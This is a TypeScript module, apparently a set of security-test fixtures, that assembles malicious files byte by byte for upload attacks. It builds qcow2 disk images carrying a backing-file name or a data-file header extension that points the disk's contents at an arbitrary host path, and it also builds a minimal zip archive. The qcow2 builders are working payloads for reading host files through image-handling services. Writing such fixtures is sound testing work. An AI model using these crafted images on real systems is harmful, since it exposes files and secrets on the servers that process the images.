// Crafted files byte by byte: disks and archives that the attacks upload.
import { crc32, deflateRawSync } from 'node:zlib';

const KIB = 1024;
/** Somewhere behind the header of a qcow2. */
const NAME_OFFSET = 512;

interface Qcow2Parts {
  readonly backingFile?: string;
  readonly incompatibleFeatures?: bigint;
  readonly sizeBytes?: number;
  /** What the disk claims to hold. */
  readonly virtualBytes?: number;
}

/** A version 3 header, as docs/interop/qcow2.txt of qemu lays it out; big endian. */
export function composeQcow2(parts: Qcow2Parts = {}): Buffer {
  const { backingFile, incompatibleFeatures = 0n, sizeBytes = 64 * KIB, virtualBytes = 1024 * KIB } = parts;
  const bytes = Buffer.alloc(sizeBytes);
  bytes.write('QFI\xfb', 0, 'latin1');
  bytes.writeUInt32BE(3, 4);
  if (backingFile !== undefined) {
    bytes.writeBigUInt64BE(BigInt(NAME_OFFSET), 8);
    bytes.writeUInt32BE(backingFile.length, 16);
    bytes.write(backingFile, NAME_OFFSET, 'latin1');
  }
  bytes.writeUInt32BE(16, 20);
  bytes.writeBigUInt64BE(BigInt(virtualBytes), 24);
  bytes.writeBigUInt64BE(incompatibleFeatures, 72);
  bytes.writeUInt32BE(4, 96);
  bytes.writeUInt32BE(104, 100);
  if (parts.virtualBytes !== undefined) layTables(bytes);
  return bytes;
}

/** What qemu wants of a disk that it is to read: a table of references, and one of clusters, of which none is allocated. */
function layTables(bytes: Buffer): void {
  bytes.writeUInt32BE(1, 36);
  bytes.writeBigUInt64BE(BigInt(192 * KIB), 40);
  bytes.writeBigUInt64BE(BigInt(64 * KIB), 48);
  bytes.writeUInt32BE(1, 56);
  bytes.writeBigUInt64BE(BigInt(128 * KIB), 64 * KIB);
}

/** A disk of one cluster whose guest data lies in that file, from its first byte on. */
export function composeQcow2OnFile(path: string): Buffer {
  const bytes = composeQcow2({ incompatibleFeatures: 4n, sizeBytes: 320 * KIB, virtualBytes: 64 * KIB });
  // The header extension that names the file.
  bytes.write('DATA', 104, 'latin1');
  bytes.writeUInt32BE(path.length, 108);
  bytes.write(path, 112, 'latin1');
  for (let cluster = 0; cluster < 5; cluster += 1) bytes.writeUInt16BE(1, 128 * KIB + 2 * cluster);
  // Offset 0 of another file counts as allocated when the bit for copied is set.
  const copied = 1n << 63n;
  bytes.writeBigUInt64BE(copied | BigInt(256 * KIB), 192 * KIB);
  bytes.writeBigUInt64BE(copied, 256 * KIB);
  return bytes;
}

/** An archive of one deflated member. */
export function composeZip(name: string, bytes: Buffer): Buffer {
  const packed = deflateRawSync(bytes);
  const common = Buffer.alloc(26);
  common.writeUInt16LE(20, 0);
  common.writeUInt16LE(8, 4);
  common.writeUInt32LE(crc32(bytes), 10);
  common.writeUInt32LE(packed.length, 14);
  common.writeUInt32LE(bytes.length, 18);
  common.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), common, Buffer.from(name), packed]);
  const entry = Buffer.concat([
    Buffer.from('PK\x01\x02', 'latin1'),
    Buffer.from([20, 0]),
    common,
    Buffer.alloc(14),
    Buffer.from(name),
  ]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(entry.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, entry, end]);
}
